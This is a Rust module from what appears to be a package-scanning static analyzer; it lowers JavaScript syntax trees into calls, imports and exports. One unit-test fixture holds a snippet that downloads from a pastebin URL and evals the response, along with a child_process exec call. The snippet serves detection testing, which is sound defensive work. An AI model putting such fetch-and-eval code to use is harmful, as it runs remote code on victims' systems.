use super::{join_relative, named_children, Builder};
use crate::static_analysis::tree::{Export, Expr, Import, Stmt};
use tree_sitter::Node;

pub(super) fn lower(b: &mut Builder<'_>, root: Node<'_>) {
    let mut body = Vec::new();
    for child in named_children(root) {
        stmt(b, child, &mut body);
    }
    b.tree.functions[0].body = body;
}

fn stmt(b: &mut Builder<'_>, node: Node<'_>, out: &mut Vec<Stmt>) {
    let line = Builder::line(node);
    match node.kind() {
        "comment" | "empty_statement" | "hash_bang_line" | "debugger_statement" => {}
        "lexical_declaration" | "variable_declaration" => {
            for decl in named_children(node).into_iter().filter(|d| d.kind() == "variable_declarator") {
                declarator(b, decl, out);
            }
        }
        "expression_statement" => {
            for child in named_children(node) {
                let value = expr(b, child, out);
                push_expr(out, value, line);
            }
        }
        "return_statement" => {
            let value = named_children(node).first().map_or(Expr::Unknown, |c| expr(b, *c, out));
            out.push(Stmt::Return { value, line });
        }
        "function_declaration" | "generator_function_declaration" => {
            let name = node.child_by_field_name("name").map(|n| b.text(n)).unwrap_or("");
            function(b, node, name);
        }
        "class_declaration" => class(b, node),
        "import_statement" => import(b, node),
        "export_statement" => export(b, node, out),
        "for_in_statement" => {
            let right = node.child_by_field_name("right").map_or(Expr::Unknown, |r| expr(b, r, out));
            if let Some(left) = node.child_by_field_name("left") {
                bind_pattern(b, left, right, line, out);
            }
            if let Some(body) = node.child_by_field_name("body") {
                stmt(b, body, out);
            }
        }
        "catch_clause" => {
            if let Some(p) = node.child_by_field_name("parameter") {
                bind_pattern(b, p, Expr::Unknown, line, out);
            }
            if let Some(body) = node.child_by_field_name("body") {
                stmt(b, body, out);
            }
        }
        kind if is_statement(kind) => {
            for child in named_children(node) {
                if is_statement(child.kind()) || child.kind().ends_with("_clause") || child.kind() == "switch_body" {
                    stmt(b, child, out);
                } else {
                    let value = expr(b, child, out);
                    push_expr(out, value, Builder::line(child));
                }
            }
        }
        _ => {
            let value = expr(b, node, out);
            push_expr(out, value, line);
        }
    }
}

fn is_statement(kind: &str) -> bool {
    kind.ends_with("_statement")
        || kind.ends_with("_declaration")
        || matches!(
            kind,
            "statement_block" | "else_clause" | "finally_clause" | "switch_body" | "switch_case" | "switch_default" | "class_body"
        )
}

fn push_expr(out: &mut Vec<Stmt>, value: Expr, line: u32) {
    if !matches!(value, Expr::Unknown | Expr::Literal(_) | Expr::Name(_)) {
        out.push(Stmt::Expr { value, line });
    }
}

fn declarator(b: &mut Builder<'_>, decl: Node<'_>, out: &mut Vec<Stmt>) {
    let line = Builder::line(decl);
    let Some(name) = decl.child_by_field_name("name") else { return };
    let value = match decl.child_by_field_name("value") {
        Some(v) if name.kind() == "identifier" && is_function(v.kind()) => {
            let n = b.text(name);
            Expr::Lambda(function(b, v, n))
        }
        Some(v) => expr(b, v, out),
        None => return,
    };
    bind_pattern(b, name, value, line, out);
}

/// Binds every name in a destructuring pattern to the matching part of `value`.
fn bind_pattern(b: &mut Builder<'_>, pattern: Node<'_>, value: Expr, line: u32, out: &mut Vec<Stmt>) {
    match pattern.kind() {
        "identifier" | "shorthand_property_identifier_pattern" => {
            out.push(Stmt::Assign { target: b.text(pattern).to_string(), value, line });
        }
        "object_pattern" => {
            for p in named_children(pattern) {
                match p.kind() {
                    "shorthand_property_identifier_pattern" => {
                        let n = b.text(p);
                        out.push(Stmt::Assign { target: n.to_string(), value: Expr::attr(value.clone(), n), line });
                    }
                    "pair_pattern" => {
                        let key = p.child_by_field_name("key").map(|k| b.text(k).trim_matches(['"', '\'']).to_string());
                        if let (Some(key), Some(v)) = (key, p.child_by_field_name("value")) {
                            bind_pattern(b, v, Expr::attr(value.clone(), &key), line, out);
                        }
                    }
                    _ => bind_pattern(b, p, value.clone(), line, out),
                }
            }
        }
        "assignment_pattern" | "object_assignment_pattern" => {
            if let Some(left) = pattern.child_by_field_name("left") {
                let default = pattern.child_by_field_name("right").map_or(Expr::Unknown, |r| expr(b, r, out));
                bind_pattern(b, left, Expr::Group(vec![value, default]), line, out);
            }
        }
        _ => {
            for p in named_children(pattern) {
                bind_pattern(b, p, value.clone(), line, out);
            }
        }
    }
}

fn is_function(kind: &str) -> bool {
    matches!(kind, "function_expression" | "function" | "arrow_function" | "generator_function" | "function_declaration" | "generator_function_declaration" | "method_definition")
}

/// Lowers a function-like node into a new [`Function`] and returns its index.
fn function(b: &mut Builder<'_>, node: Node<'_>, name: &str) -> usize {
    let idx = b.new_function(name, Builder::line(node));
    let mut body = Vec::new();
    let mut params = Vec::new();
    let line = Builder::line(node);
    if let Some(p) = node.child_by_field_name("parameter") {
        params.push(b.text(p).to_string());
    }
    if let Some(ps) = node.child_by_field_name("parameters") {
        for (i, p) in named_children(ps).into_iter().filter(|p| p.kind() != "comment").enumerate() {
            match p.kind() {
                "identifier" => params.push(b.text(p).to_string()),
                "assignment_pattern" if p.child_by_field_name("left").is_some_and(|l| l.kind() == "identifier") => {
                    let left = p.child_by_field_name("left").unwrap();
                    params.push(b.text(left).to_string());
                }
                _ => {
                    let synthetic = format!("$p{i}");
                    bind_pattern(b, p, Expr::Name(synthetic.clone()), line, &mut body);
                    params.push(synthetic);
                }
            }
        }
    }
    if let Some(body_node) = node.child_by_field_name("body") {
        if body_node.kind() == "statement_block" {
            for s in named_children(body_node) {
                stmt(b, s, &mut body);
            }
        } else {
            let value = expr(b, body_node, &mut body);
            body.push(Stmt::Return { value, line: Builder::line(body_node) });
        }
    }
    let f = &mut b.tree.functions[idx];
    f.params = params;
    f.body = body;
    idx
}

fn class(b: &mut Builder<'_>, node: Node<'_>) {
    let class_name = node.child_by_field_name("name").map(|n| b.text(n)).unwrap_or("");
    let Some(body) = node.child_by_field_name("body") else { return };
    for m in named_children(body).into_iter().filter(|m| m.kind() == "method_definition") {
        let method = m.child_by_field_name("name").map(|n| b.text(n)).unwrap_or("");
        function(b, m, &format!("{class_name}.{method}"));
    }
}

fn module_spec(b: &Builder<'_>, spec: &str) -> String {
    if spec.starts_with('.') {
        join_relative(&b.path, spec)
    } else {
        spec.to_string()
    }
}

fn string_value<'s>(b: &Builder<'s>, node: Node<'_>) -> Option<&'s str> {
    (node.kind() == "string").then(|| b.text(node).trim_matches(['"', '\'']))
}

fn import(b: &mut Builder<'_>, node: Node<'_>) {
    let Some(source) = node.child_by_field_name("source").and_then(|s| string_value(b, s)) else { return };
    let module = module_spec(b, source);
    let line = Builder::line(node);
    let push = |b: &mut Builder<'_>, local: &str, path: String| {
        b.tree.imports.push(Import { local: local.to_string(), path, line });
    };
    for clause in named_children(node).into_iter().filter(|c| c.kind() == "import_clause") {
        for part in named_children(clause) {
            match part.kind() {
                "identifier" => push(b, b.text(part), module.clone()),
                "namespace_import" => {
                    if let Some(id) = named_children(part).into_iter().find(|c| c.kind() == "identifier") {
                        push(b, b.text(id), module.clone());
                    }
                }
                "named_imports" => {
                    for spec in named_children(part).into_iter().filter(|s| s.kind() == "import_specifier") {
                        let name = spec.child_by_field_name("name").map(|n| b.text(n)).unwrap_or("");
                        let local = spec.child_by_field_name("alias").map(|n| b.text(n)).unwrap_or(name);
                        push(b, local, format!("{module}.{name}"));
                    }
                }
                _ => {}
            }
        }
    }
}

fn export(b: &mut Builder<'_>, node: Node<'_>, out: &mut Vec<Stmt>) {
    let line = Builder::line(node);
    if let Some(decl) = node.child_by_field_name("declaration") {
        match decl.kind() {
            "function_declaration" | "generator_function_declaration" => {
                let name = decl.child_by_field_name("name").map(|n| b.text(n)).unwrap_or("").to_string();
                let idx = function(b, decl, &name);
                b.tree.exports.push(Export { name, value: Expr::Lambda(idx) });
            }
            "lexical_declaration" | "variable_declaration" => {
                stmt(b, decl, out);
                for d in named_children(decl).into_iter().filter(|d| d.kind() == "variable_declarator") {
                    if let Some(n) = d.child_by_field_name("name").filter(|n| n.kind() == "identifier") {
                        let name = b.text(n).to_string();
                        b.tree.exports.push(Export { name: name.clone(), value: Expr::Name(name) });
                    }
                }
            }
            _ => stmt(b, decl, out),
        }
        return;
    }
    if let Some(value) = node.child_by_field_name("value") {
        let v = if is_function(value.kind()) { Expr::Lambda(function(b, value, "default")) } else { expr(b, value, out) };
        b.tree.exports.push(Export { name: "default".into(), value: v });
        return;
    }
    for clause in named_children(node).into_iter().filter(|c| c.kind() == "export_clause") {
        for spec in named_children(clause) {
            let name = spec.child_by_field_name("name").map(|n| b.text(n)).unwrap_or("");
            let alias = spec.child_by_field_name("alias").map(|n| b.text(n)).unwrap_or(name);
            b.tree.exports.push(Export { name: alias.to_string(), value: Expr::Name(name.to_string()) });
        }
    }
    let _ = line;
}

/// `module.exports`, `module.exports.x` and `exports.x` targets.
fn export_target(b: &Builder<'_>, left: Node<'_>) -> Option<String> {
    let text: String = b.text(left).chars().filter(|c| !c.is_whitespace()).collect();
    if text == "module.exports" {
        return Some(String::new());
    }
    text.strip_prefix("module.exports.").or_else(|| text.strip_prefix("exports.")).map(str::to_string)
}

/// Base variable of a member chain (`a.b[c].d` -> `a`).
fn base_name(b: &Builder<'_>, node: Node<'_>) -> Option<String> {
    match node.kind() {
        "identifier" | "this" => Some(b.text(node).to_string()),
        "member_expression" | "subscript_expression" => base_name(b, node.child_by_field_name("object")?),
        "parenthesized_expression" => base_name(b, *named_children(node).first()?),
        _ => None,
    }
}

fn expr(b: &mut Builder<'_>, node: Node<'_>, out: &mut Vec<Stmt>) -> Expr {
    b.nested(|b| expr_inner(b, node, out))
}

fn expr_inner(b: &mut Builder<'_>, node: Node<'_>, out: &mut Vec<Stmt>) -> Expr {
    let line = Builder::line(node);
    match node.kind() {
        "identifier" | "this" | "super" | "shorthand_property_identifier" | "property_identifier" => {
            Expr::Name(b.text(node).to_string())
        }
        "undefined" | "null" | "true" | "false" | "number" | "regex" => Expr::Literal(b.text(node).to_string()),
        "string" => {
            let text = b.text(node);
            let inner = text.get(1..text.len().saturating_sub(1)).unwrap_or("");
            b.literal(inner, node)
        }
        "template_string" => {
            let subs: Vec<Node<'_>> =
                named_children(node).into_iter().filter(|c| c.kind() == "template_substitution").collect();
            let text = b.text(node);
            let lit = b.literal(text.trim_matches('`'), node);
            if subs.is_empty() {
                lit
            } else {
                let mut parts = vec![lit];
                for s in subs {
                    parts.extend(named_children(s).into_iter().map(|c| expr(b, c, out)));
                }
                Expr::Group(parts)
            }
        }
        "call_expression" => {
            let Some(callee) = node.child_by_field_name("function") else { return Expr::Unknown };
            let arg_nodes = node.child_by_field_name("arguments").map(named_children).unwrap_or_default();
            if matches!(b.text(callee), "require" | "import") {
                if let Some(spec) = arg_nodes.first().and_then(|a| string_value(b, *a)) {
                    let path = module_spec(b, spec);
                    b.literal(spec, node);
                    return Expr::ModuleRef(path);
                }
            }
            let callee = expr(b, callee, out);
            let args = arg_nodes.into_iter().filter(|a| a.kind() != "comment").map(|a| expr(b, a, out)).collect();
            Expr::call(callee, args, line)
        }
        "new_expression" => {
            let callee = node.child_by_field_name("constructor").map_or(Expr::Unknown, |c| expr(b, c, out));
            let args = node
                .child_by_field_name("arguments")
                .map(named_children)
                .unwrap_or_default()
                .into_iter()
                .map(|a| expr(b, a, out))
                .collect();
            Expr::call(callee, args, line)
        }
        "member_expression" => {
            let object = node.child_by_field_name("object").map_or(Expr::Unknown, |o| expr(b, o, out));
            let prop = node.child_by_field_name("property").map(|p| b.text(p)).unwrap_or("");
            Expr::attr(object, prop)
        }
        "subscript_expression" => {
            let object = node.child_by_field_name("object").map_or(Expr::Unknown, |o| expr(b, o, out));
            match node.child_by_field_name("index") {
                Some(i) if i.kind() == "string" => {
                    let key = b.text(i).trim_matches(['"', '\'']).to_string();
                    Expr::attr(object, &key)
                }
                Some(i) => Expr::Group(vec![object, expr(b, i, out)]),
                None => object,
            }
        }
        "assignment_expression" => {
            let (Some(left), Some(right)) = (node.child_by_field_name("left"), node.child_by_field_name("right")) else {
                return Expr::Unknown;
            };
            let value = if is_function(right.kind()) {
                let name = base_name(b, left).filter(|_| left.kind() == "identifier").unwrap_or_default();
                let fn_name = export_target(b, left).filter(|n| !n.is_empty()).unwrap_or(name);
                Expr::Lambda(function(b, right, &fn_name))
            } else {
                expr(b, right, out)
            };
            if let Some(name) = export_target(b, left) {
                if name.is_empty() && right.kind() == "object" {
                    object_exports(b, right, &value);
                } else {
                    b.tree.exports.push(Export { name, value: value.clone() });
                }
                return value;
            }
            if matches!(left.kind(), "object_pattern" | "array_pattern") {
                bind_pattern(b, left, value.clone(), line, out);
            } else if let Some(target) = base_name(b, left) {
                out.push(Stmt::Assign { target, value: value.clone(), line });
            }
            value
        }
        "augmented_assignment_expression" => {
            let right = node.child_by_field_name("right").map_or(Expr::Unknown, |r| expr(b, r, out));
            match node.child_by_field_name("left").and_then(|l| base_name(b, l)) {
                Some(target) => {
                    let value = Expr::Group(vec![Expr::Name(target.clone()), right]);
                    out.push(Stmt::Assign { target, value: value.clone(), line });
                    value
                }
                None => right,
            }
        }
        kind if is_function(kind) => {
            let name = node.child_by_field_name("name").map(|n| b.text(n)).unwrap_or("");
            Expr::Lambda(function(b, node, name))
        }
        "class" => {
            class(b, node);
            Expr::Unknown
        }
        "pair" => node.child_by_field_name("value").map_or(Expr::Unknown, |v| expr(b, v, out)),
        "comment" => Expr::Unknown,
        _ => {
            let parts: Vec<Expr> = named_children(node).into_iter().map(|c| expr(b, c, out)).collect();
            match parts.len() {
                0 => Expr::Unknown,
                1 => parts.into_iter().next().unwrap(),
                _ => Expr::Group(parts),
            }
        }
    }
}

/// `module.exports = { a, b: c, d() {} }`.
fn object_exports(b: &mut Builder<'_>, object: Node<'_>, lowered: &Expr) {
    let values: Vec<Expr> = match lowered {
        Expr::Group(parts) => parts.clone(),
        other => vec![other.clone()],
    };
    let entries: Vec<Node<'_>> = named_children(object).into_iter().filter(|c| c.kind() != "comment").collect();
    for (entry, value) in entries.into_iter().zip(values) {
        let name = match entry.kind() {
            "pair" | "method_definition" => {
                entry.child_by_field_name("key").or_else(|| entry.child_by_field_name("name")).map(|k| b.text(k))
            }
            "shorthand_property_identifier" => Some(b.text(entry)),
            _ => None,
        };
        if let Some(name) = name {
            let name = name.trim_matches(['"', '\'']).to_string();
            b.tree.exports.push(Export { name, value });
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::registry::SubjectLanguage;
    use crate::static_analysis::parse::parse_unit;
    use crate::static_analysis::tree::Expr;

    #[test]
    fn requires_aliases_and_callbacks() {
        let src = r#"
const https = require('https');
const h = require("https"), { exec } = require('child_process');
const util = require('./lib/util');
https.get('https://pastebin.com/raw/x', function (res) {
  res.on('data', (d) => { eval(d); });
});
h.get(u);
exec(cmd);
"#;
        let t = parse_unit("index.js", src, SubjectLanguage::Js).unwrap().tree;
        let aliases = t.alias_map();
        assert_eq!(aliases["h"], "https");
        assert_eq!(aliases["exec"], "child_process.exec");
        assert_eq!(aliases["util"], "~/lib/util");
        let paths = t.call_paths();
        for want in ["https.get", "res.on", "eval", "https.get", "child_process.exec"] {
            assert!(paths.iter().any(|p| p == want), "missing {want} in {paths:?}");
        }
        assert!(t.literals.iter().any(|l| l.text.contains("pastebin.com")));
        assert_eq!(t.functions.len(), 3);
    }

    #[test]
    fn export_forms() {
        let src = r#"
function post(url, body) { return body; }
module.exports = function (x) { return x; };
module.exports.post = post;
exports.get = function get(u) { return u; };
"#;
        let t = parse_unit("index.js", src, SubjectLanguage::Js).unwrap().tree;
        let names: Vec<&str> = t.exports.iter().map(|e| e.name.as_str()).collect();
        assert_eq!(names, ["", "post", "get"]);
        assert!(matches!(t.exports[0].value, Expr::Lambda(_)));
        let t = parse_unit("m.js", "module.exports = { post, get: function () {} };", SubjectLanguage::Js).unwrap().tree;
        let names: Vec<&str> = t.exports.iter().map(|e| e.name.as_str()).collect();
        assert_eq!(names, ["post", "get"]);
    }

    #[test]
    fn esm_imports() {
        let t = parse_unit("a.mjs", "import fs from 'fs';\nimport { request as r } from 'https';\nexport function f(a) { return fs.readFileSync(a); }", SubjectLanguage::Js)
            .unwrap()
            .tree;
        assert_eq!(t.alias_map()["r"], "https.request");
        assert_eq!(t.exports[0].name, "f");
    }
}
